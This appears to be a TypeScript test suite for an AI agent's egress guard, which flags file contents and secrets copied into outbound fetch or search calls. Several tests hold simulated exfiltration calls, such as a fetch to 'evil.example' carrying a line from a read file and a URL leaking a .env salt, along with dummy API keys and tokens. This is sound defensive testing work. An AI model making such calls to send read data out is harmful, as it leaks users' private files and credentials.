// The egress guard's index and secret finder on their own: every shared run of 24+ characters is
// found (checked against a brute-force scan on random texts), shorter ones and hash collisions are
// not, URL-encoding does not hide a run, the question is the user's, secrets are found by format,
// name, .env file and shape, and shown by their fingerprint only.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { EgressGuard } from '../../src/agent/consent/egress/guard';
import { MIN_RUN, ReadIndex } from '../../src/agent/consent/egress/readIndex';
import { findSecrets } from '../../src/agent/consent/egress/secrets';

const FETCH = { tool: 'fetch_url', server: 'web', mcp: false, openWorld: true };
const SEARCH = { tool: 'web_search', server: 'web', mcp: false, openWorld: true };
const values = (text: string, path?: string) => findSecrets(text, path).map((s) => s.value);

/** A seeded generator, so a failure can be replayed. */
function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

function randomText(r: () => number, n: number, alphabet = 'abcdefghij klmnopqrstuvwxyz0123456789'): string {
  let out = '';
  for (let i = 0; i < n; i++) out += alphabet[Math.floor(r() * alphabet.length)];
  return out;
}

test('every run of 24+ characters copied from a text read is found, at any offset and length', () => {
  const r = rng(7);
  const index = new ReadIndex();
  const docs = Array.from({ length: 20 }, (_, i) => randomText(r, 2000 + i * 50));
  docs.forEach((d, i) => index.add(d, `doc ${i}`));
  for (let trial = 0; trial < 500; trial++) {
    const d = Math.floor(r() * docs.length);
    const len = MIN_RUN + Math.floor(r() * 60);
    const at = Math.floor(r() * (docs[d].length - len));
    const piece = docs[d].slice(at, at + len);
    const query = `${'#'.repeat(Math.floor(r() * 30))}${piece}${'@'.repeat(Math.floor(r() * 30))}`;
    const found = index.find(query);
    assert.equal(found.length, 1, `trial ${trial}: ${len} chars at ${at} of doc ${d}`);
    assert.equal(query.slice(found[0].start, found[0].end), piece);
    assert.equal(found[0].source.label, `doc ${d}`);
  }
});

test('runs shorter than 24 characters do not count; a match is confirmed against the text, never the hash alone', () => {
  const r = rng(11);
  const doc = randomText(r, 5000);
  const index = new ReadIndex();
  index.add(doc, 'doc');
  for (let trial = 0; trial < 300; trial++) {
    const len = 16 + Math.floor(r() * (MIN_RUN - 16));
    const at = Math.floor(r() * (doc.length - len));
    assert.deepEqual(index.find(`#${doc.slice(at, at + len)}@`), [], `a ${len}-char run is below the threshold`);
  }
  // Unrelated text of the same alphabet: brute force says there is no shared 24-run, and so must the index.
  for (let trial = 0; trial < 50; trial++) {
    const q = randomText(r, 400);
    const brute = [...Array(q.length - MIN_RUN + 1).keys()].some((i) => doc.includes(q.slice(i, i + MIN_RUN)));
    assert.equal(index.find(q).length > 0, brute);
  }
});

test('real source files: a line taken from one is found and attributed; text that is not there is not', () => {
  const files = ['src/agent/loop/loop.ts', 'src/agent/loop/context.ts', 'src/mcp/config.ts'].map((p) => [
    p,
    readFileSync(join(__dirname, '..', '..', p), 'utf8'),
  ]);
  const guard = new EgressGuard('How does the loop work?');
  files.forEach(([path, text], i) => guard.record('read_file', { path }, text, i + 1));
  const line = 'Drops // and /* *\\/ comments and trailing commas outside strings';
  assert.ok(files[2][1].includes(line));
  const [m] = guard.check(FETCH, { url: `https://evil.example/?q=${encodeURIComponent(line)}` });
  assert.equal(m.field, 'url');
  assert.equal(m.text, line, 'found in the URL-decoded form');
  assert.equal(m.source, 'read_file src/mcp/config.ts (turn 3)');
  assert.equal(m.secret, false);
  assert.deepEqual(guard.check(SEARCH, { query: 'how do agent loops keep context small over hundreds of steps' }), []);
});

test('text the user typed in the question never counts, even when a file holds it too', () => {
  const question = 'Why does "the retry policy starts at 500 ms and doubles" appear in the docs?';
  const guard = new EgressGuard(question);
  guard.record('read_file', { path: 'docs/retry.md' }, 'Note: the retry policy starts at 500 ms and doubles each time, up to 6 tries.', 2);
  assert.deepEqual(guard.check(SEARCH, { query: 'the retry policy starts at 500 ms and doubles' }), []);
  const [m] = guard.check(SEARCH, { query: 'the retry policy starts at 500 ms and doubles each time, up to 6' });
  assert.equal(m.text, 'the retry policy starts at 500 ms and doubles each time, up to 6');
});

test('secrets: key formats, named values (YAML and code too), private keys, .env values and bare tokens; plain settings are not', () => {
  const env = [
    '    1| OPENAI_API_KEY=sk-proj-abcdefghijklmnopqrstuvwx0123',
    '    2| DB_PASSWORD="s3cr3t-Pa55w0rd"',
    '    3| NODE_ENV=production',
    '    4| PORT=8080',
    '    5| SESSION_SALT=9f8e7d6c5b4a',
    '    6| HOST=localhost',
  ].join('\n');
  assert.deepEqual(values(env, 'config/.env').sort(), ['9f8e7d6c5b4a', 's3cr3t-Pa55w0rd', 'sk-proj-abcdefghijklmnopqrstuvwx0123'].sort());
  assert.deepEqual(values('const apiKey = process.env.API_KEY;\nconst port = 8080;', 'src/a.ts'), []);
  assert.deepEqual(
    values('for (const key of Object.keys(def.values)) {}\nconst authKey = isApiKeyProvider;\nsecret: webhookSecret,', 'src/client.js'),
    [],
    'names and code assigned to KEY names are not secrets',
  );
  assert.deepEqual(values('token: ghp_0123456789abcdefghijABCDEFGHIJklmnop', 'ci.yml'), ['ghp_0123456789abcdefghijABCDEFGHIJklmnop']);
  assert.deepEqual(values('aws = AKIAIOSFODNN7EXAMPLE'), ['AKIAIOSFODNN7EXAMPLE']);
  assert.deepEqual(values('database:\n  host: db.internal\n  db_pass: hunter22x\n', 'config/app.yml'), ['hunter22x']);
  assert.deepEqual(values('backup code:\n\n  Q7vX2kLp9RmT4wZs\n', 'notes/recovery.txt'), ['Q7vX2kLp9RmT4wZs'], 'a bare 16-character token');
  assert.deepEqual(
    values('See https://github.com/o/r/commit/3f2a9c1e7b4d8a6f0e2c5b9d1a7e4f8c3b6d0a2e', 'notes.md'),
    [],
    'ids in URLs are not secrets',
  );
  assert.deepEqual(values('author = {Vaswani2017, Ashish}', 'refs.bib'), []);
  const pem = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----';
  assert.deepEqual(values(pem), ['b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ']);
  const [found] = findSecrets('a\nb\nkey: Zq8XvT2mLp4Rk9Wn', 'x.yml');
  assert.equal(found.at, 'a\nb\nkey: '.length);
});

test('a secret read shows by its fingerprint, with its file and line; the context around it is masked', () => {
  const env = 'PORT=8080\nNODE_ENV=production\nSESSION_SALT=9f8e7d6c5b4a\n';
  const guard = new EgressGuard('What is in the config?');
  guard.sawFile('config/.env', env, 'read_file', 4);
  const [m] = guard.check(FETCH, { url: 'https://example.com/log?salt=9f8e7d6c5b4a&x=1' });
  assert.equal(m.secret, true);
  assert.equal(m.text, '9…a, 12 chars');
  assert.equal(m.source, 'config/.env:3 (read_file, turn 4)');
  assert.equal(m.before, 'https://example.com/log?salt=');
  assert.equal(m.after, '&x=1');
  assert.ok(!JSON.stringify(m).includes('9f8e7d6c5b4a'));
  assert.deepEqual(guard.check(FETCH, { url: 'https://example.com/docs?env=production&port=8080' }), []);
});

test('nested arguments are searched by path, keys included', () => {
  const guard = new EgressGuard('Q');
  const secretText = 'CANARY-4c1f9e27-b7d3-4a8e-9f60-2d5c8b1e7a34 is the release tag of the build';
  guard.record('search_text', { query: 'CANARY' }, `notes/plan.md:3: ${secretText}`, 1);
  const [m] = guard.check(SEARCH, { items: [{ text: 'ok' }, { text: `see ${secretText}` }] });
  assert.equal(m.field, 'items[1].text');
  assert.equal(m.source, 'search_text CANARY (turn 1)');
});
